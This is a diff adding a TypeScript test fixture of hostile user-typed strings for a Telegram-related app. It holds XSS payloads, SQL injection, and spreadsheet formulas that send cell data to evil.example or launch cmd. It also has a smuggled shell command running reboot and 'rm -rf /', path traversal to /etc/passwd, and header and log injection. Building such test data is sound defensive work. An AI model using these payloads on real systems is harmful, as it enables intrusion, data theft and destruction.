@@ -1,0 +1,73 @@
+/** Texts that have broken other programs, for the tests of whatever takes, keeps or shows what people type. */
+
+export interface HostileText {
+  /** What it is, for the name of a test. */
+  readonly name: string;
+  readonly text: string;
+}
+
+const zalgo = Array.from(
+  'Анна',
+  (letter) => letter + '\u0300\u0316\u0489\u0334\u0360\u0323\u0331\u035c'.repeat(3),
+).join('');
+
+export const HOSTILE: readonly HostileText[] = [
+  { name: 'HTML', text: '<b>Анна</b><img src=x onerror=alert(1)>' },
+  { name: 'script', text: '"><script>alert(document.cookie)</script>' },
+  { name: 'script in an attribute', text: '\' onmouseover="alert(1)" x=\'' },
+  { name: 'address that runs', text: 'javascript:alert(1)' },
+  { name: 'entities of Telegram', text: '&lt;b&gt;Анна&lt;/b&gt; &amp;amp; &#60;i&#62; &quot;' },
+  { name: 'unclosed tag of Telegram', text: '<tg-spoiler>Анна <a href="tg://user?id=1">' },
+  { name: 'Markdown of Telegram', text: '*Анна* _Белова_ `x` [a](tg://user?id=1) ||spoiler||' },
+  { name: 'bidi override', text: 'Анна\u202Eтевоп\u202C' },
+  { name: 'bidi isolates left open', text: '\u2067\u2066Анна\u2067' },
+  { name: 'marks of direction', text: '\u200F\u200EАнна\u061C' },
+  { name: 'name from right to left', text: 'محمد عبد الله' },
+  { name: 'Hebrew name with geresh', text: 'ג׳ורג׳ אלמוג' },
+  { name: 'Persian name with a joiner', text: 'علی\u200Cرضا' },
+  { name: 'zalgo', text: zalgo },
+  { name: 'combining mark first', text: '\u0301Анна' },
+  { name: 'emoji joined by ZWJ', text: '👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈 🇷🇺' },
+  { name: 'nothing that can be seen', text: '\u200B\u200D\u2060\u3164\uFEFF\u00AD' },
+  { name: 'ten thousand characters', text: 'Ы'.repeat(10_000) },
+  { name: 'ten thousand joiners', text: `а${'\u200D'.repeat(10_000)}б` },
+  { name: 'ten thousand spaces', text: `а${' '.repeat(10_000)}б` },
+  { name: 'ten thousand dots', text: 'аб.'.repeat(3_334) },
+  { name: 'one long word', text: 'Рентгеноэлектрокардиографического'.repeat(3) },
+  { name: 'SQL', text: "Robert'); DROP TABLE participants;--" },
+  { name: 'SQL in a pattern', text: "%' OR 1=1 -- _%" },
+  { name: 'query of FTS5', text: '"Анна" OR NEAR(* NOT ^name:' },
+  { name: 'formula with =', text: '=HYPERLINK("http://evil.example/?"&A1,"Анна")' },
+  { name: 'formula with +', text: '+1+1' },
+  { name: 'formula with -', text: '-2+3+cmd|" /C calc"!A0' },
+  { name: 'formula with @', text: '@SUM(1+1)*cmd|" /C calc"!A0' },
+  { name: 'formula behind a tab', text: '\t=1+1' },
+  { name: 'formula behind a carriage return', text: '\r=1+1' },
+  { name: 'separators of CSV', text: 'a,b;c\t"d""' },
+  { name: 'Fluent', text: '{ $value } { -brand } { "x" } { NUMBER($n) }' },
+  { name: 'template strings', text: '${process.env.BOT_TOKEN} {{constructor}} <%= 1 %> #{1} %s %d' },
+  { name: 'JSON', text: '{"__proto__":{"admin":true}}' },
+  { name: 'prototype', text: '__proto__' },
+  { name: 'null byte', text: 'Анна\u0000Белова' },
+  { name: 'control characters', text: 'Анна\u0007\u0008\u001B[31m\u007F\u0085' },
+  { name: 'lone surrogate, high', text: 'Анна\uD800' },
+  { name: 'lone surrogate, low', text: '\uDC00Анна' },
+  { name: 'noncharacter', text: 'Анна\uFFFE\uFFFF' },
+  { name: 'line breaks', text: 'Анна\r\n\r\nSet-Cookie: a=b\u2028\u2029' },
+  { name: 'entry of a log', text: 'Анна\n{"level":50,"msg":"forged"}' },
+  { name: 'single letter', text: 'Я' },
+  { name: 'single ideograph', text: '李' },
+  { name: 'look-alikes', text: 'Аnnа Ве1оvа' },
+  { name: 'full width', text: 'Ａｎｎａ １２３４' },
+  { name: 'letters that grow in upper case', text: 'ßŉǰﬃ' },
+  { name: 'letters that change with the language', text: 'İstanbul ısı' },
+  { name: 'path upwards', text: '../../../../etc/passwd' },
+  { name: 'path upwards, encoded', text: '..%2f..%2f%00' },
+  { name: 'path of Windows', text: '..\\..\\CON' },
+  { name: 'command', text: '/start $(reboot) `id` | rm -rf /' },
+  { name: 'link', text: 'Анна http://evil.example www.evil.example t.me/evil @evil' },
+  { name: 'number that is none', text: 'NaN' },
+  { name: 'number too large', text: '9'.repeat(400) },
+  { name: 'digits of another script', text: '١٢٣٤٥٦٧٨' },
+  { name: 'nothing', text: '' },
+];
